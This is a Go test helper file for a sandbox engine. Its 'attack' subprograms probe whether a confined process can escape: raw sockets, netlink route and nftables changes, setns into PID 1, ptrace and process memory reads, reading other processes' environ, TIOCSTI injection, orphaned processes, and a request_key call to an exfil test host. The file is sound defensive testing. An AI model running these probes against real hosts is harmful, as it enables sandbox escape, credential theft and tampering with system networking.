//go:build netns

package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"syscall"
	"unsafe"

	"github.com/google/nftables"
	"golang.org/x/sys/unix"

	"github.com/arpitcoder/aegrail-engine/internal/enginetest"
	"github.com/arpitcoder/aegrail-engine/internal/enginetest/netns"
)

// attackers are the programs of the tests that need namespaces.
func attackers() map[string]func() {
	netns.Programs(podPrograms())
	return map[string]func(){"attack": attackMain, "session": sessionMain}
}

// attackMain is what a program does that wants to get out. It prints what came
// of it, one line for each attempt.
//
//	attack WHAT [ARG…]
func attackMain() {
	attempts := map[string]func([]string){
		"get": attackGet, "multipath": multipathProgram, "udp": attackUDP, "sockets": attackSockets, "dial": attackDial, "unix": attackUnix,
		"flush": attackFlush, "network": attackNetwork, "process": attackProcess, "status": attackStatus, "files": attackFiles, "nested": attackNested,
		"orphan": attackOrphan, "fds": attackFDs, "calls": attackCalls, "mounts": attackMounts, "unmapped": attackUnmapped,
	}
	if len(os.Args) < 2 || attempts[os.Args[1]] == nil {
		fmt.Println("no such attack")
		os.Exit(2)
	}
	attempts[os.Args[1]](os.Args[2:])
}

// say prints the outcome of an attempt: an error's last word, or that it worked.
func say(what string, err error) {
	if err == nil {
		fmt.Println(what + ": WORKED")
		return
	}
	var errno syscall.Errno
	if errors.As(err, &errno) {
		fmt.Printf("%s: %s\n", what, unix.ErrnoName(errno))
		return
	}
	fmt.Printf("%s: %v\n", what, err)
}

// attackGet: METHOD URL ADDR: a request that knows no proxy, to an address of
// the attacker's choice, or where DNS leads for ADDR "-".
func attackGet(args []string) {
	roots := x509.NewCertPool()
	data, err := os.ReadFile(os.Getenv("SSL_CERT_FILE"))
	if err != nil {
		say("bundle", err)
		return
	}
	roots.AppendCertsFromPEM(data)
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	client := &http.Client{Transport: &http.Transport{
		TLSClientConfig: &tls.Config{RootCAs: roots},
		DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
			if args[2] != "-" {
				addr = args[2]
			}
			return new(net.Dialer).DialContext(ctx, network, addr)
		},
	}}
	req, err := http.NewRequestWithContext(ctx, args[0], args[1], strings.NewReader("hello"))
	if err != nil {
		say("request", err)
		return
	}
	resp, err := client.Do(req)
	if err != nil {
		fmt.Println("get:", err)
		return
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	fmt.Printf("get: %d %s\n", resp.StatusCode, body)
}

func attackUDP(args []string) {
	for _, to := range args {
		conn, err := net.Dial("udp", to)
		if err == nil {
			_, err = conn.Write([]byte("message"))
			conn.Close()
		}
		say(to, err)
	}
}

// attackDial: a TCP connection, with an answer if there is one.
func attackDial(args []string) {
	for _, to := range args {
		ctx, cancel := context.WithTimeout(context.Background(), patience)
		conn, err := new(net.Dialer).DialContext(ctx, "tcp", to)
		cancel()
		if err != nil {
			say(to, err)
			continue
		}
		_, _ = io.WriteString(conn, "GET / HTTP/1.1\r\nHost: "+to+"\r\nConnection: close\r\n\r\n")
		answer, err := bufio.NewReader(conn).ReadString('\n')
		if errors.Is(err, syscall.ECONNRESET) || answer == "" {
			err = errors.New("closed")
		}
		conn.Close()
		if err != nil {
			say(to, err)
			continue
		}
		fmt.Println(to + ": " + strings.TrimSpace(answer))
	}
}

func attackUnix(args []string) {
	for _, path := range args {
		conn, err := net.Dial("unix", path)
		if err == nil {
			conn.Close()
		}
		say(path, err)
	}
}

// attackSockets opens what is no TCP or UDP.
func attackSockets([]string) {
	for _, s := range []struct {
		what                   string
		family, kind, protocol int
	}{
		{"raw IPv4", unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW}, {"raw ICMP", unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP},
		{"raw ICMPv6", unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6}, {"packet", unix.AF_PACKET, unix.SOCK_RAW, 0x0300},
		{"vsock", unix.AF_VSOCK, unix.SOCK_STREAM, 0}, {"bluetooth", unix.AF_BLUETOOTH, unix.SOCK_RAW, 0}, {"smc", unix.AF_SMC, unix.SOCK_STREAM, 0},
		{"tipc", unix.AF_TIPC, unix.SOCK_SEQPACKET, 0}, {"alg", unix.AF_ALG, unix.SOCK_SEQPACKET, 0},
	} {
		_, err := unix.Socket(s.family, s.kind, s.protocol)
		say(s.what, err)
	}
	for _, s := range []struct {
		what               string
		family, protocol   int
		to                 unix.Sockaddr
		kind, level, value int
	}{
		{"ping", unix.AF_INET, unix.IPPROTO_ICMP, &unix.SockaddrInet4{Addr: [4]byte{9, 9, 9, 9}}, unix.SOCK_DGRAM, 0, 0},
		{"ping IPv6", unix.AF_INET6, unix.IPPROTO_ICMPV6, &unix.SockaddrInet6{Addr: [16]byte{0x20, 1, 0xd, 0xb8, 15: 1}}, unix.SOCK_DGRAM, 0, 0},
		{"sctp", unix.AF_INET, unix.IPPROTO_SCTP, &unix.SockaddrInet4{Addr: [4]byte{9, 9, 9, 9}, Port: 443}, unix.SOCK_STREAM, 0, 0},
		{"udplite", unix.AF_INET, unix.IPPROTO_UDPLITE, &unix.SockaddrInet4{Addr: [4]byte{9, 9, 9, 9}, Port: 443}, unix.SOCK_DGRAM, 0, 0},
	} {
		fd, err := unix.Socket(s.family, s.kind, s.protocol)
		if err == nil {
			if s.kind == unix.SOCK_STREAM {
				_ = unix.SetNonblock(fd, true)
				if err = unix.Connect(fd, s.to); errors.Is(err, unix.EINPROGRESS) {
					err = errors.New("no answer")
				}
			} else {
				err = unix.Sendto(fd, []byte{8, 0, 0, 0, 0, 1, 0, 1}, 0, s.to)
			}
		}
		say(s.what, err)
	}
	tcp, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		say("tcp", err)
		return
	}
	say("SO_MARK", unix.SetsockoptInt(tcp, unix.SOL_SOCKET, unix.SO_MARK, 1))
	say("IP_TRANSPARENT", unix.SetsockoptInt(tcp, unix.SOL_IP, unix.IP_TRANSPARENT, 1))
	if err := unix.SetsockoptString(tcp, unix.SOL_SOCKET, unix.SO_BINDTODEVICE, "lo"); err != nil {
		say("SO_BINDTODEVICE", err)
		return
	}
	if err := unix.Connect(tcp, &unix.SockaddrInet4{Addr: [4]byte{203, 0, 113, 5}, Port: 80}); err != nil {
		say("SO_BINDTODEVICE", err)
		return
	}
	f := os.NewFile(uintptr(tcp), "tcp")
	_, _ = f.WriteString("GET / HTTP/1.1\r\nHost: bound.denied.test\r\nConnection: close\r\n\r\n")
	line, _ := bufio.NewReader(f).ReadString('\n')
	fmt.Println("SO_BINDTODEVICE: " + strings.TrimSpace(line))
}

// netlinkRequest sends one request and returns what the kernel said.
func netlinkRequest(protocol int, kind, flags uint16, body []byte) error {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, protocol)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	head := unix.NlMsghdr{Len: uint32(unix.SizeofNlMsghdr + len(body)), Type: kind, Flags: unix.NLM_F_REQUEST | unix.NLM_F_ACK | flags, Seq: 1}
	message := append(unsafe.Slice((*byte)(unsafe.Pointer(&head)), unix.SizeofNlMsghdr), body...)
	if err := unix.Sendto(fd, message, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return err
	}
	answer := make([]byte, 4096)
	n, _, err := unix.Recvfrom(fd, answer, 0)
	if err != nil || n < 20 {
		return errors.Join(err, errors.New("a short answer"))
	}
	if number := *(*int32)(unsafe.Pointer(&answer[unix.SizeofNlMsghdr])); number != 0 {
		return syscall.Errno(-number)
	}
	return nil
}

// attackNetwork changes the interface, the routes and the rules.
func attackNetwork([]string) {
	link := unix.IfInfomsg{Index: 1, Change: unix.IFF_UP}
	say("ip link set lo down", netlinkRequest(unix.NETLINK_ROUTE, unix.RTM_NEWLINK, 0, unsafe.Slice((*byte)(unsafe.Pointer(&link)), unix.SizeofIfInfomsg)))
	addr := unix.IfAddrmsg{Family: unix.AF_INET, Prefixlen: 8, Index: 1}
	body := append(unsafe.Slice((*byte)(unsafe.Pointer(&addr)), unix.SizeofIfAddrmsg), 8, 0, unix.IFA_LOCAL, 0, 8, 8, 8, 8)
	say("ip address add", netlinkRequest(unix.NETLINK_ROUTE, unix.RTM_NEWADDR, unix.NLM_F_CREATE, body))
	route := unix.RtMsg{Family: unix.AF_INET, Table: unix.RT_TABLE_MAIN, Type: unix.RTN_UNICAST}
	body = append(unsafe.Slice((*byte)(unsafe.Pointer(&route)), unix.SizeofRtMsg), 8, 0, unix.RTA_OIF, 0, 1, 0, 0, 0)
	say("ip route add", netlinkRequest(unix.NETLINK_ROUTE, unix.RTM_NEWROUTE, unix.NLM_F_CREATE, body))
	say("nft flush ruleset", flushRules())
	if c, err := nftables.New(); err == nil {
		_, err = c.ListTables()
		say("nft list tables", err)
	}
	for _, s := range []string{"net/ipv4/ip_forward", "net/ipv4/conf/all/route_localnet", "kernel/core_pattern"} {
		f, err := os.OpenFile("/proc/sys/"+s, os.O_WRONLY, 0)
		if err == nil {
			f.Close()
		}
		say("sysctl "+s, err)
	}
	fd, err := unix.Open("/proc/1/ns/net", unix.O_RDONLY, 0)
	if err == nil {
		err = unix.Setns(fd, unix.CLONE_NEWNET)
	}
	say("setns of process 1", err)
}

func flushRules() error {
	c, err := nftables.New()
	if err != nil {
		return err
	}
	c.FlushRuleset()
	return c.Flush()
}

func attackFlush([]string) { say("flush", flushRules()) }

// attackProcess looks for the engine and at init.
func attackProcess(args []string) {
	names, _ := os.ReadDir("/proc")
	for _, d := range names {
		pid, err := strconv.Atoi(d.Name())
		if err != nil || pid == os.Getpid() {
			continue
		}
		line, _ := os.ReadFile("/proc/" + d.Name() + "/cmdline")
		if strings.Contains(string(bytes.ReplaceAll(line, []byte{0}, []byte{' '})), "aegrail-engine exec ") {
			fmt.Println("the engine is visible")
		}
	}
	for _, pid := range append([]string{"1"}, args...) {
		n, err := strconv.Atoi(pid)
		if err != nil {
			say("pid", err)
			continue
		}
		say("ptrace "+pid, unix.PtraceAttach(n))
		_, err = os.ReadFile("/proc/" + pid + "/environ")
		say("environ "+pid, unwrapErrno(err))
		f, err := os.Open("/proc/" + pid + "/mem")
		if err == nil {
			f.Close()
		}
		say("mem "+pid, unwrapErrno(err))
		_, err = os.Readlink("/proc/" + pid + "/fd/0")
		say("fd "+pid, unwrapErrno(err))
		fd, err := unix.PidfdOpen(n, 0)
		if err == nil {
			_, err = unix.PidfdGetfd(fd, 3, 0)
		}
		say("pidfd_getfd "+pid, err)
		var b [8]byte
		local, remote := []unix.Iovec{{Base: &b[0]}}, []unix.RemoteIovec{{Base: 0x400000, Len: 8}}
		local[0].SetLen(8)
		_, err = unix.ProcessVMReadv(n, local, remote, 0)
		say("process_vm_readv "+pid, err)
	}
}

// attackStatus says what of this process is not given up.
func attackStatus([]string) {
	status, _ := os.ReadFile("/proc/self/status")
	for line := range strings.Lines(string(status)) {
		if strings.HasPrefix(line, "Cap") && !strings.Contains(line, "0000000000000000") || strings.HasPrefix(line, "NoNewPrivs:\t0") || strings.HasPrefix(line, "Seccomp:\t0") {
			fmt.Print("not given up: ", line)
		}
	}
	fmt.Println("looked")
}

func unwrapErrno(err error) error {
	if errors.Is(err, os.ErrNotExist) {
		return syscall.ENOENT
	}
	return err
}

// attackOrphan leaves a process behind that does the rest once its parents are
// gone, and keeps nothing open but the file that it writes.
func attackOrphan(args []string) {
	if args[0] == "now" {
		out, err := os.Create(args[1])
		if err == nil {
			os.Stdout = out
			enginetest.Eventually(func() bool { return os.Getppid() == 1 })
			os.Args = append([]string{"attack"}, args[2:]...)
			attackMain()
			fmt.Println("orphan of", os.Getppid())
			err = errors.Join(unix.Flock(int(out.Fd()), unix.LOCK_EX), os.Rename(args[1], args[1]+".done"))
		}
		if err != nil {
			os.Exit(1)
		}
		for { // until the kernel ends it
			_ = unix.Pause()
		}
	}
	c := exec.Command("/proc/self/exe", append([]string{"orphan", "now"}, args...)...)
	c.Args[0] = "attack"
	c.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	say("orphan", c.Start())
}

// attackFDs says which sockets it was born with.
func attackFDs([]string) {
	for fd := 3; fd < 256; fd++ {
		target, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
		if err == nil && strings.HasPrefix(target, "socket:") {
			fmt.Println(fd, target)
		}
	}
	fmt.Println("looked")
}

// attackCalls makes system calls that lead around the rest.
func attackCalls([]string) {
	c := byte('x')
	_, _, errno := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&c)))
	say("TIOCSTI", errno)
	_, _, errno = unix.Syscall(unix.SYS_IOCTL, 0, 0x541c, uintptr(unsafe.Pointer(&c)))
	say("TIOCLINUX", errno)
	var params [120]byte
	_, _, errno = unix.Syscall(425, 8, uintptr(unsafe.Pointer(&params[0])), 0)
	say("io_uring_setup", errno)
	_, err := unix.RequestKey("dns_resolver", "secret.exfil.test", "", 0)
	say("request_key", err)
	_, _, errno = unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI|1<<32, uintptr(unsafe.Pointer(&c)))
	say("TIOCSTI with high bits", errno)
	_, _, errno = unix.RawSyscall(unix.SYS_SOCKET|0x40000000, unix.AF_VSOCK, unix.SOCK_STREAM, 0)
	say("an x32 call", errno)
}

// sessionMain leads a session on the terminal that is its standard input, as a
// shell does, with one job. It says when the job stops, lets it go on, and says
// how it ended.
func sessionMain() {
	c := exec.Command(os.Args[1], os.Args[2:]...)
	c.Stdin, c.Stdout, c.Stderr = os.Stdin, os.Stdout, os.Stderr
	c.SysProcAttr = &syscall.SysProcAttr{Setpgid: true, Foreground: true, Ctty: 0}
	if err := c.Start(); err != nil {
		fmt.Println("session:", err)
		os.Exit(1)
	}
	for {
		var ws syscall.WaitStatus
		_, err := syscall.Wait4(c.Process.Pid, &ws, syscall.WUNTRACED, nil)
		switch {
		case errors.Is(err, syscall.EINTR):
		case err != nil:
			fmt.Println("session:", err)
			os.Exit(1)
		case ws.Stopped():
			fmt.Println("session: stopped by", unix.SignalName(ws.StopSignal()))
			_ = syscall.Kill(-c.Process.Pid, syscall.SIGCONT)
		default:
			fmt.Println("session: ended with", ws.ExitStatus())
			return
		}
	}
}

// hostAddresses are this machine's addresses besides loopback.
func hostAddresses() (all []netip.Addr) {
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok {
			if ip, ok := netip.AddrFromSlice(n.IP); ok && !ip.Unmap().IsLoopback() && !ip.IsLinkLocalUnicast() {
				all = append(all, ip.Unmap())
			}
		}
	}
	return all
}
